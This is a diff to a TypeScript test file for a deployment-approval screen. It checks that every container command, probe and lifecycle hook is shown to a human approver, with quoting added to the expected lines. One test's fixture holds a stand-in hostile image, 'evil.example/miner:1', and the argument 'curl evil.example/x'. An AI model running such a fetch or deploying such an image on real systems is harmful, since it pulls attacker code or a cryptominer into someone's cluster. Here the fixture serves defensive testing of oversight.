@@ -285,18 +285,18 @@ test('the approver sees every command that would run, whole, wherever it stands'
   const suffix = ' (Deployment/busy in shop)';
   const changing = (word: string) =>
     [
-      'main args 0 --port',
-      `main args 1 ${word}`,
-      'main lifecycle postStart exec command 0 sh',
-      'main lifecycle postStart exec command 1 -c',
-      `main lifecycle postStart exec command 2 ${word}`,
-      'first startupProbe exec command 0 test',
-      `first startupProbe exec command 1 ${word}`,
+      'main command 0 "serve"',
+      'main args 0 "--port"',
+      `main args 1 "${word}"`,
+      'main lifecycle postStart exec command 0 "sh"',
+      'main lifecycle postStart exec command 1 "-c"',
+      `main lifecycle postStart exec command 2 "${word}"`,
+      'first startupProbe exec command 0 "test"',
+      `first startupProbe exec command 1 "${word}"`,
     ].map(line => line + suffix);
   const made = await screenOf(start('one'));
   expect(runs(made.lines)).toEqual(expect.arrayContaining(changing('one')));
-  expect(runs(made.lines)).toContain(`main command 0 serve${suffix}`);
-  expect(runs(made.lines)).toContain(`main livenessProbe exec command 0 true${suffix}`);
+  expect(runs(made.lines)).toContain(`main livenessProbe exec command 0 "true"${suffix}`);
   await running.approve(idOf(made.asked));
   const changed = await screenOf(start('two'));
   expect(runs(changed.lines).toSorted()).toEqual(changing('two').toSorted());
@@ -327,7 +327,7 @@ test('an image cannot be hidden from the approver by a variable that repeats it,
   const screen = 'review' in review ? review.review.screen : '';
   expect(screen).toMatch(/^Runs +evil image evil\.example\/miner:1 /m);
   expect(screen).toMatch(/^Targets +create Deployment\/evil in shop/m);
-  expect(screen).toMatch(/^Runs +evil args 0 curl evil\.example\/x/m);
+  expect(screen).toMatch(/^Runs +evil args 0 "curl evil\.example\/x"/m);
 });
 
 function strings(data: unknown): string {
